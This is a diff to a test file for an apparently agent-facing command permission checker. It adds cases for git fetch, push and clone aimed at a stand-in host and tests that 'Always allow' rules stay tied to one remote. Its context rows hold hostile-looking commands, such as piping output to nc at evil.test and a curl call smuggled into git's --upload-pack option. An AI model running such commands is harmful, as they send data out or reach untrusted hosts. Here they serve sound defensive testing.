@@ -149,6 +149,16 @@ const lines: Readonly<Record<string, readonly Row[]>> = {
     ['npm test | nc evil.test 80', 'deny', 'ask', 'ask', 'allow'],
     ['git clone https://evil.test/x', 'deny', 'ask', 'ask', 'allow'],
     ['git fetch --upload-pack="curl evil.test" origin', 'deny', 'ask', 'ask', 'allow'],
+    ['git fetch origin main', 'deny', 'ask', 'allow', 'allow'],
+    ['git fetch https://evil.test/x', 'deny', 'ask', 'ask', 'allow'],
+    ['git fetch git@evil.test:x', 'deny', 'ask', 'ask', 'allow'],
+    ['git fetch --depth 1 evil.test:x', 'deny', 'ask', 'ask', 'allow'],
+    ['git fetch origin --multiple evil', 'deny', 'ask', 'ask', 'allow'],
+    ['git push --repo=evil.test:x', 'deny', 'ask', 'ask', 'allow'],
+    ['git push origin main:other', 'deny', 'ask', 'allow', 'allow'],
+    ['git clone evil.test:x', 'deny', 'ask', 'ask', 'allow'],
+    ['r=origin; r=evil.test:x; git fetch $r', 'deny', 'ask', 'ask', 'allow'],
+    ['git fetch https://docs.example.test/x', 'deny', 'ask', 'allow', 'allow'],
     ['make REMOTE=https://evil.test/x', 'deny', 'ask', 'ask', 'allow'],
     ['wget -qO- evil.test', 'deny', 'ask', 'ask', 'allow'],
   ],
@@ -242,6 +252,29 @@ describe('a rule that forbids reaches into what wrappers start', () => {
   ])('%s', async (command) => expect(await verdict(command, deny)).toBe('deny'))
   it('and a line that cannot be read asks, whoever is to be asked', async () => expect(await verdict('{npm,publish}', deny)).toBe('must'))
   it.each(['npm pack', 'echo npm publish', 'curl https://good.test/evil.test'])('and no further: %s', async (command) => expect(await verdict(command, deny)).toBe('allow'))
+})
+
+describe('“Always allow…” of a command that speaks to another repository', () => {
+  const offered = async (command: string) => {
+    const asked = await judgeRig({}).decide('bash', { command, description: 'x' })
+    const last = asked.kind === 'ask' ? asked.details?.always?.at(-1) : undefined
+    // Rules over a border are plain data in this shape.
+    return { label: last?.label, rules: ((last?.rule ?? { rules: [] }) as JsonObject & { readonly rules: readonly PermissionRuleSetting[] }).rules }
+  }
+  const rows: readonly [command: string, label: string, allows: readonly string[], asks: readonly string[]][] = [
+    ['git push origin main', 'Always allow `git push origin …`', ['git push origin', 'git push origin main:other', 'git push origin v1 --tags'], ['git push', 'git push other main', 'git push https://evil.test/x', 'git push -u origin main']],
+    ['git push -u origin main', 'Always allow `git push -u origin …`', ['git push -u origin other'], ['git push origin main', 'git push -u other main']],
+    ['git push git@good.test:x main', 'Always allow `git push git@good.test:x …`', ['git push git@good.test:x other'], ['git push git@evil.test:x main']],
+    ['git fetch origin', 'Always allow `git fetch origin …`', ['git fetch origin main'], ['git fetch', 'git fetch other', 'git fetch evil.test:x']],
+    ['git pull --rebase origin main', 'Always allow `git pull --rebase origin …`', ['git pull --rebase origin other'], ['git pull --rebase evil main']],
+    ['git push', 'Always allow `git push`', ['git push'], ['git push origin', 'git push evil.test:x']],
+    ['git pull', 'Always allow `git pull`', ['git pull'], ['git pull evil main']],
+    ['git clone https://good.test/x', 'Always allow `git clone https://good.test/x`', ['git clone https://good.test/x'], ['git clone https://good.test/x y']],
+  ]
+  it.each(rows)('%s: %s', async (command, label, allows, asks) => {
+    const { label: said, rules: kept } = await offered(command)
+    expect([said, await Promise.all(allows.map((line) => verdict(line, { rules: kept }))), await Promise.all(asks.map((line) => verdict(line, { rules: kept })))]).toEqual([label, allows.map(() => 'allow'), asks.map(() => 'ask')])
+  })
 })
 
 describe('“Always allow…”', () => {
